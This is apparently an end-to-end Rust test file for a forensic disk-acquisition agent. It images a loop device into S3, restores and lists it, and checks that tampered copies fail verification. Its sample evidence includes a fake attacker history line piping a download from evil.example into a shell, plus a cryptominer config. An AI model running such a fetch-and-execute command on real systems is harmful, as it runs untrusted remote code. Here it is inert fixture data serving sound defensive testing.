//! `airf-agent disk` end to end: a real loop device with ext4 into real S3 servers, restored
//! with the zstd CLI and read with Sleuth Kit, then `verify`, including a tampered copy.

use std::io::{Read, Seek, SeekFrom};
use std::path::Path;

use airf_e2e::{
    LoopDevice, S3Server, ServerKind, agent_bin, fls, run_agent, sha256, sha256_file,
    zstd_decompress,
};
use anyhow::{Context, Result, ensure};

const FILES: &[(&str, &[u8])] = &[
    ("etc/passwd", b"root:x:0:0:root:/root:/bin/bash\n"),
    (
        "home/attacker/.bash_history",
        b"curl http://evil.example/x | sh\n",
    ),
    (
        "var/tmp/.hidden/miner.conf",
        b"pool=stratum+tcp://pool.example:3333\n",
    ),
];

#[expect(
    clippy::indexing_slicing,
    reason = "serde_json::Value indexing yields Null, it never panics"
)]
fn round_trip(kind: ServerKind) -> Result<()> {
    let server = S3Server::start(kind)?;
    let mut files: Vec<(&str, Vec<u8>)> = FILES.iter().map(|(p, b)| (*p, b.to_vec())).collect();
    // A file spanning several frames and parts, so reordering and part boundaries are exercised.
    let mut big = vec![0u8; 12 << 20];
    std::io::Read::read_exact(&mut std::fs::File::open("/dev/urandom")?, &mut big)?;
    files.push(("data/big.bin", big));
    let refs: Vec<(&str, &[u8])> = files.iter().map(|(p, b)| (*p, b.as_slice())).collect();
    let disk = LoopDevice::ext4(48, &refs)?;
    let device_sha = sha256_file(&disk.device)?;

    let run = run_agent(
        server
            .command(agent_bin()?)
            .arg("disk")
            .arg(&disk.device)
            .args([
                "--to",
                &format!("s3://{}/e2e/", server.bucket),
                "--case",
                "IR-2026-0042",
                "--part-size",
                "5MiB",
                "--json",
            ]),
    )?;
    ensure!(run.code == 0, "agent failed: {run:?}");
    let src = &run.json["sources"][0];
    ensure!(
        run.json["status"] == "complete" && src["status"] == "complete",
        "{}",
        run.stdout
    );
    let image_key = src["image"]["key"]
        .as_str()
        .context("image key")?
        .to_owned();
    let manifest_key = src["manifest"]["key"]
        .as_str()
        .context("manifest key")?
        .to_owned();
    let loop_name = disk
        .device
        .file_name()
        .context("a loop device path without a name")?
        .to_string_lossy();
    ensure!(
        image_key.starts_with("e2e/IR-2026-0042/")
            && image_key.ends_with(&format!("/{loop_name}.raw.zst")),
        "{image_key}"
    );
    ensure!(
        src["image"]["parts"].as_u64().unwrap_or(0) >= 2,
        "expected a multipart upload: {}",
        run.stdout
    );

    // The stored object, restored by the stock zstd tool, is the device byte for byte.
    let compressed = server.get(&image_key)?;
    let raw = zstd_decompress(&compressed)?;
    ensure!(
        sha256(&raw) == device_sha,
        "restored image differs from the device"
    );
    ensure!(raw.len() as u64 == 48 << 20);
    let manifest: serde_json::Value = serde_json::from_slice(&server.get(&manifest_key)?)?;
    ensure!(
        manifest["raw"]["sha256"] == device_sha.as_str(),
        "manifest raw hash"
    );
    ensure!(
        manifest["compressed"]["sha256"] == sha256(&compressed).as_str(),
        "manifest compressed hash"
    );
    ensure!(manifest["compressed"]["size"] == compressed.len() as u64);
    ensure!(
        manifest["case"] == "IR-2026-0042"
            && manifest["kind"] == "disk"
            && manifest["status"] == "complete"
    );
    ensure!(manifest["source"]["type"] == "disk" && manifest["source"]["kind"] == "block_device");
    ensure!(
        manifest["source"]["loop_backing_file"]
            .as_str()
            .is_some_and(|p| p.ends_with("disk.img"))
    );
    ensure!(
        manifest["host"]["kernel_release"]
            .as_str()
            .is_some_and(|k| !k.is_empty())
    );
    ensure!(
        manifest["unreadable"]["ranges"]
            .as_array()
            .is_some_and(Vec::is_empty)
    );
    ensure!(manifest["agent"]["peak_rss_bytes"].as_u64().unwrap_or(0) > 0);

    // Sleuth Kit reads the restored filesystem and finds the files.
    let tmp = tempfile::tempdir()?;
    let restored = tmp.path().join("restored.img");
    std::fs::write(&restored, &raw)?;
    let listing = fls(&restored)?;
    for (path, _) in FILES {
        ensure!(
            listing.contains(path),
            "fls does not list {path}:\n{listing}"
        );
    }

    // Seekable: an independent reader jumps into the middle of the image.
    let mut decoder = zeekstd::Decoder::new(std::io::Cursor::new(compressed.clone()))?;
    let at = (20u64 << 20) + 12_345;
    decoder.seek(SeekFrom::Start(at))?;
    let mut window = vec![0u8; 100_000];
    decoder.read_exact(&mut window)?;
    let expected = raw
        .get(at as usize..at as usize + 100_000)
        .context("the image ends before the seek window")?;
    ensure!(window.as_slice() == expected, "seek read differs");

    // verify passes on the original...
    let manifest_uri = format!("s3://{}/{manifest_key}", server.bucket);
    let ok = run_agent(
        server
            .command(agent_bin()?)
            .args(["verify", &manifest_uri, "--json"]),
    )?;
    ensure!(
        ok.code == 0 && ok.json["status"] == "intact",
        "verify: {ok:?}"
    );

    // ...and fails on a copy with one byte flipped.
    let mut tampered = compressed;
    let mid = tampered.len() / 2;
    *tampered.get_mut(mid).context("an empty image")? ^= 0x01;
    let (folder, img_name) = image_key
        .rsplit_once('/')
        .context("an image key without a folder")?;
    let folder = folder.replace("e2e/", "tampered/");
    let (_, man_name) = manifest_key
        .rsplit_once('/')
        .context("a manifest key without a folder")?;
    let tampered_path = tmp.path().join(img_name);
    std::fs::write(&tampered_path, &tampered)?;
    let manifest_path = tmp.path().join(man_name);
    std::fs::write(&manifest_path, serde_json::to_vec(&manifest)?)?;
    server.put(&format!("{folder}/{img_name}"), &tampered_path)?;
    server.put(&format!("{folder}/{man_name}"), &manifest_path)?;
    let bad = run_agent(server.command(agent_bin()?).args([
        "verify",
        &format!("s3://{}/{folder}/{man_name}", server.bucket),
        "--json",
    ]))?;
    ensure!(
        bad.code == 4 && bad.json["status"] == "not_intact",
        "tampered copy passed verify: {bad:?}"
    );
    ensure!(bad.stderr.contains("NOT INTACT"), "{}", bad.stderr);

    // The same checks work on a local copy (an analyst's download).
    let local = run_agent(std::process::Command::new(agent_bin()?).args([
        "verify",
        &manifest_path.display().to_string(),
        "--json",
    ]))?;
    ensure!(local.code == 4, "local tampered copy: {local:?}");

    ensure!(
        server.open_uploads()?.is_empty(),
        "multipart uploads left open"
    );
    Ok(())
}

#[test]
fn loop_device_into_garage_restores_and_verifies() -> Result<()> {
    round_trip(ServerKind::Garage)
}

#[test]
fn loop_device_into_moto_restores_and_verifies() -> Result<()> {
    round_trip(ServerKind::Moto)
}

#[test]
fn local_directory_and_stdout_destinations() -> Result<()> {
    let disk = LoopDevice::ext4(8, FILES)?;
    let device_sha = sha256_file(&disk.device)?;
    let out = tempfile::tempdir()?;
    let run = run_agent(
        std::process::Command::new(agent_bin()?)
            .env("AWS_EC2_METADATA_DISABLED", "true")
            .arg("disk")
            .arg(&disk.device)
            .args([
                "--to",
                &out.path().display().to_string(),
                "--case",
                "lab",
                "--json",
            ]),
    )?;
    ensure!(run.code == 0, "{run:?}");
    let manifest = run.json["sources"][0]["manifest"]["location"]
        .as_str()
        .context("manifest")?
        .to_owned();
    ensure!(Path::new(&manifest).starts_with(out.path().join("lab")));
    let v =
        run_agent(std::process::Command::new(agent_bin()?).args(["verify", &manifest, "--json"]))?;
    ensure!(v.code == 0, "{v:?}");

    // --to -: the image on stdout, the result on stderr.
    let piped = std::process::Command::new(agent_bin()?)
        .env("AWS_EC2_METADATA_DISABLED", "true")
        .arg("disk")
        .arg(&disk.device)
        .args(["--to", "-", "--no-progress"])
        .output()?;
    ensure!(
        piped.status.success(),
        "{}",
        String::from_utf8_lossy(&piped.stderr)
    );
    ensure!(sha256(&zstd_decompress(&piped.stdout)?) == device_sha);
    let result: serde_json::Value = serde_json::from_slice(&piped.stderr)?;
    ensure!(result["sources"][0]["raw_sha256"] == device_sha.as_str());
    ensure!(result["sources"][0]["manifest_inline"]["raw"]["sha256"] == device_sha.as_str());
    Ok(())
}
